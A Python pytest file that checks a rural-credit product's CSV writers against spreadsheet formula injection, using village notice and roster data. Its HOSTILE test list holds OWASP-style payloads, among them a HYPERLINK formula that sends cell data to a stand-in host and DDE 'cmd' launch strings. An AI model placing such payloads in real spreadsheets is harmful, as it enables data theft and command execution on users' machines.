"""CSV files the product writes are neutralised against formula injection (chalicelib.platform.csv_safe): the rule,
every writer, and a scan that no other CSV writer exists. Pure, no sockets."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from chalicelib.platform import csv_safe

ROOT = Path(__file__).resolve().parents[2]
#: Names an attacker could give a household head (OWASP CSV Injection examples and the issue's).
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点此查看")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _formula_like(cell: str) -> bool:
    """What a spreadsheet would evaluate: a cell starting with = + - @ tab CR (OWASP), numbers aside."""
    return bool(cell) and cell[0] in "=+-@\t\r" and not re.fullmatch(r"-?\d+(\.\d+)?", cell)


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_starting_with_a_trigger_gets_a_leading_quote(value):
    assert csv_safe.safe_cell(value) == "'" + value
    assert csv_safe.unescape(csv_safe.safe_cell(value)) == value


@pytest.mark.parametrize("value,written", [
    ("王春", "王春"), ("", ""), (None, ""), ("-1234.50", "-1234.50"), ("-7", "-7"), (-7, "-7"),
    ("1+1", "1+1"), ("'quoted", "'quoted"), ("a=b", "a=b"), ("-", "'-"), ("-1e5", "'-1e5"), ("+86138", "'+86138"),
])
def test_other_cells_are_written_as_they_are(value, written):
    assert csv_safe.safe_cell(value) == written


def test_the_public_notice_csv_neutralises_hostile_head_names():
    from chalicelib.rating.domain.notice_document import NoticeHeader, render_csv
    from chalicelib.rating.domain.village_credit import notice_rows

    entries = [{"household_id": f"h{i:02d}", "head_name": name, "head_id_masked": "220122********1230",
                "grade": "AA", "proposed_limit": "50000"} for i, name in enumerate(HOSTILE)]
    header = NoticeHeader("VC-1", "220122102202", "二道沟村委会", "哈拉海镇", "农安县", "吉林农安农村商业银行",
                          "2026-11-01", "2026-11-07", len(HOSTILE), len(HOSTILE))
    cells = _cells(render_csv(header, notice_rows(entries)))
    assert [r[3] for r in cells[1:]] == ["'" + n for n in HOSTILE]  # 户主姓名 (NOTICE_COLUMNS[3])
    assert not any(_formula_like(c) for r in cells for c in r)


def test_the_roster_writers_neutralise_and_the_roster_reader_reads_the_names_back():
    from chalicelib.customers.domain import roster
    from infra.roster_synth import synth_households, to_csv
    from infra.synthetic import roster_csv, village_households_in

    hhs = synth_households(len(HOSTILE), seed=5)
    for hh, name in zip(hhs, HOSTILE, strict=True):
        hh.members[0].name = name
    data = to_csv(hhs)
    assert not any(_formula_like(c) for r in _cells(data) for c in r)
    parsed = roster.parse(data, "r.csv", village_code="220122102202")
    assert [hh.payload["members"][0]["name"] for hh in parsed.households] == [n.strip() for n in HOSTILE]

    village = village_households_in("220122102202", 3, seed=9)
    village[0]["members"][0]["name"] = HOSTILE[0]
    village[0]["income"]["crops"] = -1200  # a negative net income stays a number
    cells = _cells(roster_csv(village))
    assert not any(_formula_like(c) for r in cells for c in r)
    assert "-1200" in cells[1]
    assert roster.parse(roster_csv(village), "v.csv", village_code="220122102202").households[0] \
        .payload["members"][0]["name"] == HOSTILE[0]


def test_no_csv_writer_outside_csv_safe():
    """Every CSV the product writes goes through chalicelib.platform.csv_safe (lambda code, jobs, console, seeds)."""
    found = []
    for folder in ("chalicelib", "functions", "infra", "app.py"):
        paths = [ROOT / folder] if folder.endswith(".py") else sorted((ROOT / folder).rglob("*.py"))
        for path in paths:
            if path == ROOT / "chalicelib" / "platform" / "csv_safe.py":
                continue
            text = path.read_text(encoding="utf-8")
            if re.search(r"csv\.(writer|DictWriter)\s*\(|\.to_csv\s*\(", text):
                found.append(str(path.relative_to(ROOT)))
    assert found == []
